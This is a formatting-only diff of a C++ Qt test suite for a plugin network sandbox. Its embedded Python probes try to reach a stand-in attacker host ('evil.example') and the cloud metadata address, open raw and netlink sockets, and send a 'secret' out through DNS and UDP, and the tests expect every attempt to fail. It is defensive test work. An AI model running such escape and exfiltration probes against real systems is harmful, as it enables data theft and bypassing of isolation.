@@ -54,8 +54,9 @@ private:
                                  "    try:\n"
                                  "        link.request('GET', path)\n"
                                  "        return link.getresponse()\n"
-                                 "    except OSError as error: return str(error)\n"
-            + script.replace("PLACE", QByteArray::number(m_place->serverPort())).replace("OTHER", QByteArray::number(m_other->serverPort()));
+                                 "    except OSError as error: return str(error)\n" +
+                                 script.replace("PLACE", QByteArray::number(m_place->serverPort()))
+                                     .replace("OTHER", QByteArray::number(m_other->serverPort()));
         QFile file(m_folder + u"/script"_s);
         if (!file.open(QIODevice::WriteOnly) || file.write(whole) < 0)
             return "ERROR cannot write";
@@ -74,8 +75,9 @@ private Q_SLOTS:
         m_folder = Sandbox::makeStagingFolder().value_or(QString());
         QVERIFY(!m_folder.isEmpty());
         m_other = server("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nother");
-        m_place = server("HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:" + QByteArray::number(m_other->serverPort())
-                         + "/\r\nContent-Length: 8\r\n\r\ndeclared");
+        m_place =
+            server("HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:" + QByteArray::number(m_other->serverPort()) +
+                   "/\r\nContent-Length: 8\r\n\r\ndeclared");
         m_job = {};
         m_job.pluginFolder = m_folder;
         m_job.limits = {20, 256, 32, 256};
@@ -93,13 +95,15 @@ private Q_SLOTS:
     void withoutADeclarationThereIsNoProxyAndNothingToReach()
     {
         m_job.network.clear();
-        const QByteArray said = run("print(os.environ.get('https_proxy'), os.path.exists('/run/wardroom-gate'), through('127.0.0.1', PLACE))\n");
+        const QByteArray said = run("print(os.environ.get('https_proxy'), os.path.exists('/run/wardroom-gate'), "
+                                    "through('127.0.0.1', PLACE))\n");
         QVERIFY2(said.startsWith("None False ") && !said.contains("declared"), said.constData());
     }
 
     void anotherHostOrPortIsRefusedAndOnTheRecord()
     {
-        const QByteArray said = run("for host, port in (('127.0.0.1', OTHER), ('evil.example', 443), ('169.254.169.254', 80), ('[::1]', PLACE)):\n"
+        const QByteArray said = run("for host, port in (('127.0.0.1', OTHER), ('evil.example', 443), "
+                                    "('169.254.169.254', 80), ('[::1]', PLACE)):\n"
                                     "    print('answer', through(host, port))\n");
         QCOMPARE(said.count("answer Tunnel connection failed: 403"), 4);
         QCOMPARE(said.count("Network: "), 4);
@@ -118,17 +122,18 @@ private Q_SLOTS:
 
     void noSocketLeadsAroundTheProxy()
     {
-        const QByteArray said = run("def attempt(name, call):\n"
-                                    "    try: print(name, 'WORKED', call())\n"
-                                    "    except OSError: print(name, 'failed')\n"
-                                    "attempt('direct', lambda: socket.create_connection(('127.0.0.1', PLACE), 2))\n"
-                                    "attempt('outside', lambda: socket.create_connection(('1.1.1.1', 53), 2))\n"
-                                    "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
-                                    "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 3))\n"
-                                    "attempt('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 0))\n"
-                                    "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n"
-                                    "print(sorted(os.listdir('/sys/class/net')) if os.path.exists('/sys/class/net') else 'no sys')\n"
-                                    "print([line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]])\n");
+        const QByteArray said =
+            run("def attempt(name, call):\n"
+                "    try: print(name, 'WORKED', call())\n"
+                "    except OSError: print(name, 'failed')\n"
+                "attempt('direct', lambda: socket.create_connection(('127.0.0.1', PLACE), 2))\n"
+                "attempt('outside', lambda: socket.create_connection(('1.1.1.1', 53), 2))\n"
+                "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
+                "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 3))\n"
+                "attempt('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 0))\n"
+                "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n"
+                "print(sorted(os.listdir('/sys/class/net')) if os.path.exists('/sys/class/net') else 'no sys')\n"
+                "print([line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]])\n");
         QVERIFY2(!said.contains("WORKED"), said.constData());
         QCOMPARE(said.count("failed"), 6);
         QVERIFY2(said.contains("['lo']"), said.constData());
@@ -138,13 +143,14 @@ private Q_SLOTS:
     {
         QUdpSocket listener; // a name server of this machine
         QVERIFY(listener.bind(QHostAddress::LocalHost));
-        const QByteArray said = run("import threading\n"
-                                    "try: print('WORKED', socket.getaddrinfo('secret.evil.example', 443))\n"
-                                    "except OSError as error: print('failed')\n"
-                                    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-                                    "for where in (('127.0.0.1', DNS), ('127.0.0.53', 53), ('8.8.8.8', 53)):\n"
-                                    "    try: print('sent', s.sendto(b'secret', where))\n"
-                                    "    except OSError: print('failed')\n"_ba.replace("DNS", QByteArray::number(listener.localPort())));
+        const QByteArray said =
+            run("import threading\n"
+                "try: print('WORKED', socket.getaddrinfo('secret.evil.example', 443))\n"
+                "except OSError as error: print('failed')\n"
+                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                "for where in (('127.0.0.1', DNS), ('127.0.0.53', 53), ('8.8.8.8', 53)):\n"
+                "    try: print('sent', s.sendto(b'secret', where))\n"
+                "    except OSError: print('failed')\n"_ba.replace("DNS", QByteArray::number(listener.localPort())));
         QVERIFY2(!said.contains("WORKED"), said.constData());
         QTest::qWait(50);
         QVERIFY2(!listener.hasPendingDatagrams(), "a datagram of the sandbox reached this machine");
@@ -168,7 +174,8 @@ private Q_SLOTS:
                                     "    try: line = open(f'/proc/{pid}/cmdline').read()\n"
                                     "    except OSError: continue\n"
                                     "    if 'wardroom-relay' in line and int(pid) != os.getpid():\n"
-                                    "        print('relay', sorted(os.readlink(f'/proc/{pid}/fd/{fd}').split(':')[0] for fd in os.listdir(f'/proc/{pid}/fd') if fd != '3' or True))\n");
+                                    "        print('relay', sorted(os.readlink(f'/proc/{pid}/fd/{fd}').split(':')[0] "
+                                    "for fd in os.listdir(f'/proc/{pid}/fd') if fd != '3' or True))\n");
         QVERIFY2(said.contains("relay ['socket']"), said.constData());
     }
 
